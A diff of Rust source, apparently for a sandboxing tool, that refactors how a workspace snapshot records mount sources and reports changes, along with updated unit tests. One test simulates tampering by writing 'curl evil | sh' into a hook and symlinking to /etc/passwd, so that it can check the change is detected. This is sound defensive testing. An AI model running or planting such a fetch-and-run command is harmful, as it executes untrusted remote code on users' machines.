@@ -51,8 +51,13 @@ pub(crate) struct Snapshot {
 }
 
 impl Snapshot {
-    /// Reads the workspace as it is now.
-    pub(crate) fn capture(workspace: &Path) -> Result<Snapshot, TrustError> {
+    /// Reads the workspace as it is now. `mount_sources` are those of the
+    /// config as the caller parsed it (none when it did not parse): the
+    /// snapshot reads the config files' bytes but never parses them.
+    pub(crate) fn capture(
+        workspace: &Path,
+        mount_sources: &[PathBuf],
+    ) -> Result<Snapshot, TrustError> {
         let mut snapshot = Snapshot::default();
         for name in CONFIG_FILE_NAMES {
             // No link followed, nothing but a regular file of at most
@@ -72,7 +77,7 @@ impl Snapshot {
             );
         }
         walk_moat_dir(workspace, Path::new(MOAT_DIR), &mut snapshot.moat_dir)?;
-        snapshot.mount_sources = mount_sources(workspace);
+        snapshot.mount_sources = resolve_mount_sources(mount_sources);
         Ok(snapshot)
     }
 
@@ -158,22 +163,20 @@ fn hash_file(workspace: &Path, relative: &Path) -> Result<String, TrustError> {
     Ok(hex::encode(hasher.finalize()))
 }
 
-/// The mount sources of the config `moat run` would load, resolved. A
-/// config that does not parse has none here; its text is in the snapshot.
-fn mount_sources(workspace: &Path) -> BTreeMap<String, String> {
-    let mut out = BTreeMap::new();
-    let Ok(Some(config)) = moat_config::load(workspace) else {
-        return out;
-    };
-    for mount in config.mounts {
-        let resolved = match std::fs::canonicalize(&mount.source) {
-            Ok(real) => real.display().to_string(),
-            Err(e) if e.kind() == std::io::ErrorKind::NotFound => "missing".to_owned(),
-            Err(e) => format!("unreadable: {e}"),
-        };
-        out.insert(mount.source.display().to_string(), resolved);
-    }
-    out
+/// Each mount source (absolute, as the parsed config names it) → where
+/// it resolves now.
+fn resolve_mount_sources(sources: &[PathBuf]) -> BTreeMap<String, String> {
+    sources
+        .iter()
+        .map(|source| {
+            let resolved = match std::fs::canonicalize(source) {
+                Ok(real) => real.display().to_string(),
+                Err(e) if e.kind() == std::io::ErrorKind::NotFound => "missing".to_owned(),
+                Err(e) => format!("unreadable: {e}"),
+            };
+            (source.display().to_string(), resolved)
+        })
+        .collect()
 }
 
 /// One difference between the accepted snapshot and the current one.
@@ -263,56 +266,82 @@ impl fmt::Display for Change {
 pub(crate) fn diff(old: &Snapshot, new: &Snapshot) -> Vec<Change> {
     let mut out = Vec::new();
     for name in CONFIG_FILE_NAMES {
-        let file = name.to_owned();
-        match (old.config_files.get(name), new.config_files.get(name)) {
-            (None, None) => {}
-            (None, Some(b)) => {
+        diff_config_file(
+            name,
+            old.config_files.get(name),
+            new.config_files.get(name),
+            &mut out,
+        );
+    }
+    diff_moat_dir(&old.moat_dir, &new.moat_dir, &mut out);
+    diff_mount_sources(&old.mount_sources, &new.mount_sources, &mut out);
+    out
+}
+
+/// How config file `name` changed: as a whole, or key by key.
+fn diff_config_file(
+    name: &str,
+    old: Option<&ConfigFile>,
+    new: Option<&ConfigFile>,
+    out: &mut Vec<Change>,
+) {
+    let file = name.to_owned();
+    match (old, new) {
+        (None, None) => {}
+        (None, Some(b)) => {
+            out.push(Change::ConfigFile {
+                file: file.clone(),
+                how: FileChange::Added,
+            });
+            // What it sets, so that a review shows the mounts and
+            // grants it adds, not just that a file appeared.
+            if let Some(changes) = moat_config::diff_keys("", &b.text) {
+                out.extend(changes.into_iter().map(|change| Change::Key {
+                    file: file.clone(),
+                    change,
+                }));
+            }
+        }
+        (Some(_), None) => out.push(Change::ConfigFile {
+            file,
+            how: FileChange::Removed,
+        }),
+        (Some(a), Some(b)) => {
+            if a.symlink != b.symlink {
                 out.push(Change::ConfigFile {
                     file: file.clone(),
-                    how: FileChange::Added,
+                    how: FileChange::Symlink(b.symlink.clone()),
                 });
-                // What it sets, so that a review shows the mounts and
-                // grants it adds, not just that a file appeared.
-                if let Some(changes) = moat_config::diff_keys("", &b.text) {
-                    out.extend(changes.into_iter().map(|change| Change::Key {
-                        file: file.clone(),
-                        change,
-                    }));
-                }
             }
-            (Some(_), None) => out.push(Change::ConfigFile {
-                file,
-                how: FileChange::Removed,
-            }),
-            (Some(a), Some(b)) => {
-                if a.symlink != b.symlink {
-                    out.push(Change::ConfigFile {
-                        file: file.clone(),
-                        how: FileChange::Symlink(b.symlink.clone()),
-                    });
-                }
-                if a.sha256 == b.sha256 {
-                    continue;
-                }
-                match moat_config::diff_keys(&a.text, &b.text) {
-                    Some(changes) if changes.is_empty() => out.push(Change::ConfigFile {
-                        file,
-                        how: FileChange::FormattingOnly,
-                    }),
-                    Some(changes) => out.extend(changes.into_iter().map(|change| Change::Key {
-                        file: file.clone(),
-                        change,
-                    })),
-                    None => out.push(Change::ConfigFile {
-                        file,
-                        how: FileChange::NotYaml,
-                    }),
-                }
+            if a.sha256 == b.sha256 {
+                return;
+            }
+            match moat_config::diff_keys(&a.text, &b.text) {
+                Some(changes) if changes.is_empty() => out.push(Change::ConfigFile {
+                    file,
+                    how: FileChange::FormattingOnly,
+                }),
+                Some(changes) => out.extend(changes.into_iter().map(|change| Change::Key {
+                    file: file.clone(),
+                    change,
+                })),
+                None => out.push(Change::ConfigFile {
+                    file,
+                    how: FileChange::NotYaml,
+                }),
             }
         }
     }
-    for (path, state) in &new.moat_dir {
-        match old.moat_dir.get(path) {
+}
+
+/// Entries of `.moat/` added, changed (or made links) and removed.
+fn diff_moat_dir(
+    old: &BTreeMap<String, String>,
+    new: &BTreeMap<String, String>,
+    out: &mut Vec<Change>,
+) {
+    for (path, state) in new {
+        match old.get(path) {
             None => out.push(Change::MoatDir {
                 path: path.clone(),
                 how: FileChange::Added,
@@ -327,18 +356,25 @@ pub(crate) fn diff(old: &Snapshot, new: &Snapshot) -> Vec<Change> {
             Some(_) => {}
         }
     }
-    for path in old.moat_dir.keys() {
-        if !new.moat_dir.contains_key(path) {
+    for path in old.keys() {
+        if !new.contains_key(path) {
             out.push(Change::MoatDir {
                 path: path.clone(),
                 how: FileChange::Removed,
             });
         }
     }
-    // Added or removed sources show up as moat.yaml keys; what only this
-    // shows is a source that resolves elsewhere.
-    for (source, now) in &new.mount_sources {
-        if let Some(was) = old.mount_sources.get(source) {
+}
+
+/// Mount sources that now resolve elsewhere: what only the snapshot
+/// shows (sources added or removed show up as moat.yaml keys).
+fn diff_mount_sources(
+    old: &BTreeMap<String, String>,
+    new: &BTreeMap<String, String>,
+    out: &mut Vec<Change>,
+) {
+    for (source, now) in new {
+        if let Some(was) = old.get(source) {
             if was != now {
                 out.push(Change::MountSource {
                     source: PathBuf::from(source),
@@ -348,7 +384,6 @@ pub(crate) fn diff(old: &Snapshot, new: &Snapshot) -> Vec<Change> {
             }
         }
     }
-    out
 }
 
 #[cfg(test)]
@@ -368,21 +403,25 @@ mod tests {
         std::fs::create_dir_all(ws.join(".moat/hooks")).unwrap();
         std::fs::write(ws.join(".moat/hooks/pre.sh"), "echo hi\n").unwrap();
         std::fs::create_dir(ws.join("data")).unwrap();
-        let before = Snapshot::capture(&ws).unwrap();
+        let sources = [ws.join("data")];
+        let before = Snapshot::capture(&ws, &sources).unwrap();
         assert_eq!(
             before.moat_dir.keys().collect::<Vec<_>>(),
             [".moat", ".moat/hooks", ".moat/hooks/pre.sh"]
         );
         let data = ws.join("data").display().to_string();
         assert_eq!(before.mount_sources.get(&data), Some(&data));
-        assert_eq!(before.digest(), Snapshot::capture(&ws).unwrap().digest());
+        assert_eq!(
+            before.digest(),
+            Snapshot::capture(&ws, &sources).unwrap().digest()
+        );
 
         // A run swaps the mounted directory for a symlink and edits a hook.
         std::fs::rename(ws.join("data"), ws.join("data.old")).unwrap();
         std::os::unix::fs::symlink("/etc", ws.join("data")).unwrap();
         std::fs::write(ws.join(".moat/hooks/pre.sh"), "curl evil | sh\n").unwrap();
         std::os::unix::fs::symlink("/etc/passwd", ws.join(".moat/link")).unwrap();
-        let after = Snapshot::capture(&ws).unwrap();
+        let after = Snapshot::capture(&ws, &sources).unwrap();
         assert_ne!(before.digest(), after.digest());
         assert_eq!(
             lines(&before, &after),
@@ -391,6 +430,25 @@ mod tests {
                 "added: .moat/link".to_owned(),
                 format!("changed: mount source {data} (now resolves to /etc; was {data})"),
             ]
+        );
+    }
+
+    #[test]
+    fn the_snapshot_resolves_the_sources_it_is_given_and_parses_nothing() {
+        let ws = tempfile::tempdir().unwrap();
+        let ws = ws.path().canonicalize().unwrap();
+        std::fs::create_dir(ws.join("data")).unwrap();
+        std::fs::write(ws.join("moat.yaml"), "mounts: [\"./data:/data:ro\"]\n").unwrap();
+        // moat.yaml names ./data, but no parsed config was given: the
+        // text is fingerprinted, the mount is not looked for in it.
+        let unparsed = Snapshot::capture(&ws, &[]).unwrap();
+        assert!(unparsed.config_files.contains_key("moat.yaml"));
+        assert!(unparsed.mount_sources.is_empty());
+        let missing = ws.join("elsewhere");
+        let given = Snapshot::capture(&ws, std::slice::from_ref(&missing)).unwrap();
+        assert_eq!(
+            given.mount_sources.get(&missing.display().to_string()),
+            Some(&"missing".to_owned())
         );
     }
 
